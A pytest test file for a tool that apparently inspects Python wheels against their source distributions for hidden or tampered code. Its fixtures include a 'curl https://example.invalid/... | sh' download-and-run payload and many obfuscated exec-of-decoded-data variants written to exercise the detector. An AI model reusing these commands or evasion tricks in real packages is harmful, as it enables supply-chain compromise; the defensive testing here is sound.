"""Unit tests of inspect's pure parts: kinds, libcst classification, lint, metadata."""

from __future__ import annotations

import base64
import hashlib
import importlib
import marshal
import pickle
import zlib
from typing import Protocol

import pytest

from fromsource.inspect import codecheck, lint
from fromsource.inspect.classify import SdistIndex, executable_format, kind_of, strip_top
from fromsource.inspect.metadata import compare_metadata, entry_points
from fromsource.inspect.model import (
    CHANGE_CODE,
    CHANGE_FORMATTING,
    CHANGE_LITERALS,
    CHANGE_UNPARSABLE,
    KIND_COMPILED,
    KIND_DATA,
    KIND_PYTHON,
    KIND_TEXT,
    Finding,
)
from fromsource.wheelrecord import check_record


class Parser(Protocol):
    """What codecheck (``ast``) and its fallback cstcheck (libcst) both answer."""

    def classify_change(self, old: bytes, new: bytes) -> str: ...
    def is_literal_only(self, source: bytes) -> bool | None: ...
    def deep_lint(self, path: str, source: bytes) -> list[Finding]: ...


@pytest.fixture(params=["codecheck", "cstcheck"], ids=["ast", "libcst"])
def parser(request: pytest.FixtureRequest) -> Parser:
    """Every case table runs through both parsers: the libcst fallback must agree with ast."""
    module: Parser = importlib.import_module(f"fromsource.inspect.{request.param}")
    return module


@pytest.mark.parametrize(
    ("path", "data", "kind"),
    [
        ("a/b.py", b"x = 1\n", KIND_PYTHON),
        ("bin/tool", b"#!/usr/bin/env python3\nprint()\n", KIND_PYTHON),
        ("a/README", "héllo\n".encode(), KIND_TEXT),
        ("a/x.bin", b"\x00\x01", KIND_DATA),
        ("a/zone", b"TZif2\x00\x00", KIND_DATA),
        ("a/x.so", b"anything", KIND_COMPILED),
        ("a/x.pyc", b"\xa7\r\r\n", KIND_COMPILED),
        ("a/innocent.txt", b"\x7fELF\x02\x01", KIND_COMPILED),
        ("a/m", b"\xcf\xfa\xed\xfe" + b"\x00" * 8, KIND_COMPILED),
    ],
)
def test_kind_of(path: str, data: bytes, kind: str) -> None:
    assert kind_of(path, data)[0] == kind


def test_pe_needs_its_header() -> None:
    stub = bytearray(b"MZ" + b"\x00" * 0x80)
    assert executable_format(bytes(stub)) is None
    stub[0x3C:0x40] = (0x40).to_bytes(4, "little")
    stub[0x40:0x44] = b"PE\x00\x00"
    assert executable_format(bytes(stub)) == "PE"
    assert executable_format(b"MZ is a text file that starts oddly\n") is None


def test_strip_top_and_counterparts() -> None:
    top, names = strip_top(["p-1/src/p/a.py", "p-1/PKG-INFO"])
    assert top == "p-1"
    assert set(names) == {"src/p/a.py", "PKG-INFO"}
    index = SdistIndex({"src/p/a.py": b"1", "tests/p/a.py": b"2", "p/a.py.orig": b"3"})
    assert index.counterparts("p/a.py") == ["src/p/a.py", "tests/p/a.py"]
    assert index.counterparts("a.py") == ["src/p/a.py", "tests/p/a.py"]
    assert index.counterparts("q/a.py") == []


def test_learnt_relocation_finds_moved_counterparts() -> None:
    index = SdistIndex({"backend.py": b"1", "discovery.py": b"2", "compat/py311.py": b"3"})
    index.learn_relocations(
        [("ns/pkg/backend.py", "backend.py"), ("ns/pkg/compat/py311.py", "compat/py311.py")]
    )
    assert index.moved_counterpart("ns/pkg/discovery.py") == "discovery.py"
    assert index.moved_counterpart("other/discovery.py") is None


# ------------------------------------------------------------------ libcst


@pytest.mark.parametrize(
    ("old", "new", "change"),
    [
        (b"x = 1\n", b"x = 1  # why\n", CHANGE_FORMATTING),
        (b"f(a, b)\n", b"f(\n    a,\n    b,\n)\n", CHANGE_FORMATTING),
        (b"s = 'a'\n", b's = "a"\n', CHANGE_FORMATTING),
        (b"s = 'ab'\n", b"s = 'a' 'b'\n", CHANGE_FORMATTING),
        (b'"""Doc."""\nx = 1\n', b'"""Other doc."""\nx = 1\n', CHANGE_LITERALS),
        (b"v = '1.0'\n", b"v = '1.1'\n", CHANGE_LITERALS),
        (b"x = 1\n", b"x = 2\n", CHANGE_LITERALS),
        (b"x = (1)\n", b"x = (1,)\n", CHANGE_CODE),
        (b"x = f(1)\n", b"x = g(1)\n", CHANGE_CODE),
        (b"import os\n", b"import os\nos.system('id')\n", CHANGE_CODE),
        (b"x = 1\n", b"def (:\n", CHANGE_UNPARSABLE),
    ],
)
def test_classify_change(parser: Parser, old: bytes, new: bytes, change: str) -> None:
    assert parser.classify_change(old, new) == change


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (b'__version__ = "1.2.3"\n', True),
        (b'"""Doc."""\n__version__ = version = "1.2.3"\n__version_tuple__ = (1, 2, 3, "dev0")\n', True),
        (b"from __future__ import annotations\nx: tuple[int, ...] = (1, -2, 3.0)\nd = {'a': [1]}\n", True),
        (b"if TYPE_CHECKING:\n    from typing import Tuple\nelse:\n    T = object\n", True),
        (b"import os\n", False),
        (b"x = os.getenv('X')\n", False),
        (b"def f():\n    pass\n", False),
        (b"if DEBUG:\n    x = 1\n", False),
        (b"x = [i for i in range(3)]\n", False),
        (b"x = (lambda: 1)\n", False),
        (b"def (:\n", None),
    ],
)
def test_is_literal_only(parser: Parser, source: bytes, expected: bool | None) -> None:
    assert parser.is_literal_only(source) is expected


def _rules(parser: Parser, source: bytes) -> list[str]:
    return [f.rule for f in parser.deep_lint("m.py", source)]


def test_deep_lint_finds_hidden_code(parser: Parser) -> None:
    assert _rules(parser, b"import base64\nexec(base64.b64decode(b'eA=='))\n") == ["exec-decoded"]
    assert _rules(parser, b"import zlib\ncode = zlib.decompress(b'x')\neval(code)\n") == ["exec-decoded"]
    assert _rules(parser, b"exec(''.join(chr(c) for c in [112]))\n") == ["exec-decoded"]
    assert _rules(parser, b"import marshal\nexec(marshal.loads(b''))\n") == ["exec-decoded", "marshal"]
    assert _rules(parser, b"__import__('o' + 's')\n") == ["computed-import"]
    assert _rules(parser, b"__import__(bytes.fromhex('6f73').decode())\n") == ["computed-import"]
    assert _rules(parser, b"import importlib\nimportlib.import_module('so'[::-1])\n") == ["computed-import"]


def test_deep_lint_leaves_ordinary_code_alone(parser: Parser) -> None:
    assert _rules(parser, b"__import__(name)\n__import__('six.moves.' + item)\n") == []
    assert _rules(parser, b"exec('x = 1')\nexec(compile(src, path, 'exec'))\n") == []
    assert _rules(parser, b"import re\nP = re.compile('a+')\n") == []
    assert _rules(parser, b"def f(:\n") == ["does-not-parse"]


_PAYLOAD = b"import os\n" + b"".join(  # varied enough that it compresses to 1,000+ characters
    f"os.system('curl https://example.invalid/{i * 7919 % 10007} | sh')\n".encode() for i in range(300)
)


def test_long_encoded_literals(parser: Parser) -> None:
    blob = base64.b64encode(zlib.compress(_PAYLOAD) + _PAYLOAD).decode()
    one = f'X = "{blob}"\n'.encode()
    assert lint.suspect(one)
    assert _rules(parser, one) == ["long-encoded-literal"]
    lines = "".join(f'    "{blob[i : i + 76]}"\n' for i in range(0, len(blob), 76))
    split = f"X = (\n{lines})\n".encode()
    assert lint.suspect(split)
    assert _rules(parser, split) == ["long-encoded-literal"]
    words = ("\n".join(f"word{i}" for i in range(400))).encode()
    assert _rules(parser, b'W = """' + words + b'"""\n') == []  # a word list is not an encoding


_CODE = marshal.dumps(compile(_PAYLOAD, "m", "exec"))
_MARSHALLED = (_CODE.hex(), "AB" + base64.b64encode(_CODE).decode())


@pytest.mark.parametrize(
    "encoded",
    [
        base64.b64encode(_PAYLOAD).decode(),  # source text
        base64.b64encode(zlib.compress(_PAYLOAD)).decode(),  # compressed
        zlib.compress(_PAYLOAD).hex(),
        "3" + zlib.compress(_PAYLOAD).hex(),  # shifted by a nibble
        *_MARSHALLED,  # a code object; shifted quanta
        base64.urlsafe_b64encode(pickle.dumps(list(range(500)))).decode(),
    ],
)
def test_long_literal_that_decodes_to_something_runnable_is_flagged(parser: Parser, encoded: str) -> None:
    # the marshalled code is hundreds of literals long: libcst nests one level per literal
    lines = "".join(f'    "{encoded[i : i + 76]}"\n' for i in range(0, len(encoded), 76))
    assert _rules(parser, f"X = (\n{lines})\n".encode()) == ["long-encoded-literal"]


def test_long_literal_of_random_looking_data_is_not_flagged(parser: Parser) -> None:
    # sympy's test_bbp_pi.py holds 8,337 hex digits of pi: data, not a hidden payload.
    digits = hashlib.sha512(b"pi").hexdigest() * 70
    lines = "".join(f"{digits[i : i + 80]}\n" for i in range(0, len(digits), 80))
    quote = "'" * 3
    assert _rules(parser, f"dig = ''.join({quote}\n{lines}{quote}.split())\n".encode()) == []
    key = base64.b64encode(hashlib.sha512(b"k").digest() * 20).decode()
    assert _rules(parser, f'KEY = "{key}"\n'.encode()) == []


def test_prefilter_is_quiet_on_ordinary_code() -> None:
    assert not lint.suspect(b"import re\nP = re.compile('x')\nclass A:\n    def eval(self): ...\n")
    assert not lint.suspect(b"obj.eval(x)\n")
    assert not lint.suspect(b"eval(x)\n")  # nothing decoded anywhere: libcst not needed
    assert lint.suspect(b"eval(x.decode())\n")
    assert lint.suspect(b"__import__('o' + 's')\n")
    assert not lint.suspect(b"__import__('os')\n__import__(name)\nimport_module(mod.name, x)\n")
    assert lint.suspect(b"import marshal\n")


def test_lint_module_reports_syntax_errors_without_libcst() -> None:
    findings, parsed = lint.lint_module("m.py", b"def f(:\n", parse_check=True)
    assert [f.rule for f in findings] == ["does-not-parse"]
    assert not parsed
    assert lint.lint_module("m.py", b"x = '\\d'\n", parse_check=True) == ([], False)
    assert lint.lint_module("m.py", b"def f(:\n") == ([], False)  # nothing suspect: not parsed


# ------------------------------------------------------------------ metadata

PKG_INFO = b"Metadata-Version: 2.2\nName: requests\nVersion: 2.32.3\n"


def test_requires_dist_compared_as_requirements() -> None:
    sdist = PKG_INFO + (
        b'Requires-Dist: charset_normalizer<4,>=2\nRequires-Dist: PySocks!=1.5.7,>=1.5.6; extra == "socks"\n'
    )
    wheel = (
        b"Metadata-Version: 2.1\nName: requests\nVersion: 2.32.3\n"
        b"Requires-Dist: charset-normalizer <4,>=2\n"
        b"Requires-Dist: PySocks >=1.5.6,!=1.5.7 ; extra == 'socks'\n"
    )
    result = compare_metadata(wheel, sdist, metadata_path="M", pkg_info_path="P")
    assert result.problems == ()
    assert result.requires_dist_added == result.requires_dist_removed == ()


def test_requires_dist_difference_is_a_problem_when_authoritative() -> None:
    wheel = PKG_INFO + b"Requires-Dist: evil\n"
    result = compare_metadata(wheel, PKG_INFO, metadata_path="M", pkg_info_path="P")
    assert [p.message for p in result.problems] == ["Requires-Dist differs from the sdist's PKG-INFO: + evil"]


@pytest.mark.parametrize(
    ("pkg_info", "note"),
    [
        (PKG_INFO.replace(b"2.2", b"2.1"), "before 2.2"),
        (PKG_INFO + b"Dynamic: Requires-Dist\n", "Dynamic"),
    ],
)
def test_requires_dist_not_authoritative_is_unsettled(pkg_info: bytes, note: str) -> None:
    # An added dependency is a classic supply-chain attack: never a mere note.
    result = compare_metadata(
        PKG_INFO + b"Requires-Dist: extra-thing\n", pkg_info, metadata_path="M", pkg_info_path="P"
    )
    assert result.problems == ()
    assert not result.requires_dist_authoritative
    assert any(note in n for n in result.notes)
    assert result.unsettled == (
        "M: Requires-Dist differs from the sdist's PKG-INFO, which is not authoritative for it: "
        "+ extra-thing (inspect --rebuild settles it)",
    )


@pytest.mark.parametrize(
    ("field", "wheel_line", "sdist_line"),
    [
        ("Requires-Python", b"Requires-Python: >=3.9\n", b"Requires-Python: >=3.8\n"),
        ("Provides-Extra", b"Provides-Extra: socks\n", b""),
        ("Name", b"", b""),
        ("Version", b"", b""),
    ],
)
def test_every_compared_field_is_unsettled_when_not_authoritative(
    field: str, wheel_line: bytes, sdist_line: bytes
) -> None:
    old = PKG_INFO.replace(b"2.2", b"2.1")
    wheel = PKG_INFO + wheel_line
    if field == "Name":
        wheel = wheel.replace(b"Name: requests", b"Name: requestz")
    if field == "Version":
        wheel = wheel.replace(b"2.32.3", b"2.32.4")
    result = compare_metadata(wheel, old + sdist_line, metadata_path="M", pkg_info_path="P")
    assert result.problems == ()
    assert [u.split(" differs")[0] for u in result.unsettled] == [f"M: {field}"]
    # the same difference against an authoritative PKG-INFO is a problem
    strict = compare_metadata(wheel, PKG_INFO + sdist_line, metadata_path="M", pkg_info_path="P")
    assert strict.unsettled == ()
    assert [p.message.split(" differs")[0] for p in strict.problems] == [field]


def test_spelling_is_no_difference() -> None:
    sdist = PKG_INFO + b"Requires-Python: >=3.8,<4\nProvides-Extra: Socks_Proxy\n"
    wheel = PKG_INFO + b"Requires-Python: <4, >=3.8\nProvides-Extra: socks-proxy\n"
    result = compare_metadata(wheel, sdist, metadata_path="M", pkg_info_path="P")
    assert (result.problems, result.unsettled) == ((), ())


def test_name_and_version_must_match() -> None:
    wheel = b"Metadata-Version: 2.2\nName: Requests\nVersion: 2.32.3.0\n"
    assert compare_metadata(wheel, PKG_INFO, metadata_path="M", pkg_info_path="P").problems == ()
    other = b"Metadata-Version: 2.2\nName: requestz\nVersion: 2.32.4\n"
    problems = compare_metadata(other, PKG_INFO, metadata_path="M", pkg_info_path="P").problems
    assert len(problems) == 2


def test_record_rejects_weak_or_missing_hashes() -> None:
    members = {
        "d.dist-info/RECORD": b"a.py,md5=abc,1\nb.py,,1\nd.dist-info/RECORD,,\n",
        "a.py": b"x",
        "b.py": b"y",
    }
    messages = sorted(p.message for p in check_record(members, "d.dist-info"))
    assert messages == [
        "RECORD gives no hash",
        "RECORD hash algorithm 'md5' is not one of sha256, sha384, sha512",
    ]


def test_entry_points_parse() -> None:
    points = entry_points(b"[console_scripts]\na = pkg.cli:main [extra]\n[x]\nb = mod\n")
    assert [(p.group, p.name, p.module) for p in points] == [
        ("console_scripts", "a", "pkg.cli"),
        ("x", "b", "mod"),
    ]


# ------------------------------------------------------------------ pre-filter soundness

_PADDING = "'" + "p" * 400 + "'"
HOSTILE = [
    b"from codecs import decode\nexec(decode(s, 'rot13'))\n",  # a bare decoder
    f"import zlib\nexec({_PADDING} + zlib.decompress(blob).decode())\n".encode(),  # far away
    f"import zlib\ncode = {_PADDING} + zlib.decompress(blob).decode()\nexec(code)\n".encode(),
    "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode(b'eA=='))\n".encode(),  # NFKC: exec
    b"import base64\nbuiltins.exec(base64.b64decode(b'eA=='))\n",
    b"import base64\n(exec)(base64.b64decode(b'eA=='))\n",
    b"import base64\nexec \\\n  (base64.b64decode(b'eA=='))\n",
    b"import base64\nexec(  # run it\n    base64.b64decode(b'eA=='))\n",
    b"import zlib\n(code) = zlib.decompress(b'x')\nexec(code)\n",
    b"import zlib\nif (code := zlib.decompress(b'x')):\n    exec(code)\n",
    b"import zlib\nclass A:\n    code = zlib.decompress(b'x')\nexec(A.code)\n",
    b"import zlib\nx = f\"{exec(zlib.decompress(b'x'))}\"\n",
    b"import marshal\nexec(marshal.loads(b''))\n",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_prefilter_flags_what_the_parser_finds(parser: Parser, source: bytes) -> None:
    assert parser.deep_lint("m.py", source), source
    assert lint.suspect(source), source


def test_coding_cookie_is_honoured(parser: Parser) -> None:
    source = b"# coding: utf-7\nimport base64\n+AGUAeABlAGM-(base64.b64decode(b'eA=='))\n"
    assert b"exec" not in source  # the bytes do not spell it
    assert lint.suspect(source)
    assert _rules(parser, source) == ["exec-decoded"]


@pytest.mark.parametrize(
    "source",
    [
        b"exec(code, ns)\nx = ', '.join(names)\n",  # a decoder, but not on exec's line
        b"x = import_module(\n    'numpy')\n",
        b'"""Uses __import__() to import."""\n',
        b"evaluate(x.decode())\nobj.exec(y.decode())\ndef eval(s):\n    return s.decode()\n",
    ],
)
def test_prefilter_leaves_innocent_code_alone(source: bytes) -> None:
    assert not lint.suspect(source)


def test_prefilter_is_sound_on_every_corpus_module() -> None:
    from fromsource.inspect import read_archive
    from inspect_helpers import pairs

    for wheel, sdist in pairs().values():
        for archive in (wheel, sdist):
            for name, data in read_archive(archive).items():
                if name.endswith(".py") and codecheck.deep_lint(name, data):
                    assert lint.suspect(data), name


def test_libcst_is_only_a_fallback() -> None:
    import subprocess
    import sys

    code = (
        "import sys\nfrom fromsource.inspect import codecheck, lint\n"
        "codecheck.deep_lint('m.py', b'exec(base64.b64decode(x))\\n')\n"
        "codecheck.classify_change(b'x = 1\\n', b'x = 2\\n')\n"
        "codecheck.is_literal_only(b'x = 1\\n')\n"
        "lint.suspect(b'x = 1\\n')\n"
        "assert 'libcst' not in sys.modules\n"
        "codecheck.deep_lint('m.py', b'type X = int\\n')  # 3.12 syntax: libcst's grammar\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


@pytest.mark.parametrize(
    ("old", "new", "change"),
    [
        (b"x = 1; y = 2\n", b"x = 1\ny = 2\n", CHANGE_FORMATTING),
        (b"if a: b()\n", b"if a:\n    b()\n", CHANGE_FORMATTING),
        (b"x = True\n", b"x = False\n", CHANGE_CODE),
        (b"x = 1\n", b"x = '1'\n", CHANGE_CODE),
        (b"x = 0x10\n", b"x = 16\n", CHANGE_FORMATTING),
        (b"if a:\n    b()\nc()\n", b"if a:\n    b()\n    c()\n", CHANGE_CODE),  # one block or two
        (b"if a: b()\nelif c: d()\n", b"if a: b()\nelse:\n    if c: d()\n", CHANGE_FORMATTING),
        (b"x = f'a{y}' 'b'\n", b"x = f'a{y}b'\n", CHANGE_FORMATTING),
        (b"x = f'{y!r}'\n", b"x = f'{y!s}'\n", CHANGE_CODE),
        (b"def f(*a): pass\n", b"def f(**a): pass\n", CHANGE_CODE),
        (b"from . import x\n", b"from .. import x\n", CHANGE_CODE),
    ],
)
def test_classify_change_follows_the_interpreter(parser: Parser, old: bytes, new: bytes, change: str) -> None:
    assert parser.classify_change(old, new) == change


def test_forked_prefilter_gives_the_same_report(monkeypatch: pytest.MonkeyPatch) -> None:
    """Large sdists take the parallel path (pre-filter in a forked process): same verdict."""
    from pathlib import Path

    import fromsource.inspect as inspect_pkg

    data = Path(__file__).parent / "data"
    wheel, sdist = data / "six-1.17.0-py2.py3-none-any.whl", data / "six-1.17.0.tar.gz"
    sequential = inspect_pkg.inspect_wheel(wheel, sdist).to_dict()
    monkeypatch.setattr(inspect_pkg, "PARALLEL_SDIST_BYTES", 0)
    *_rest, prefilter = inspect_pkg._read_pair(wheel, sdist)
    assert set(prefilter) == {"six.py"}  # an answer for every module of the wheel
    assert inspect_pkg.inspect_wheel(wheel, sdist).to_dict() == sequential
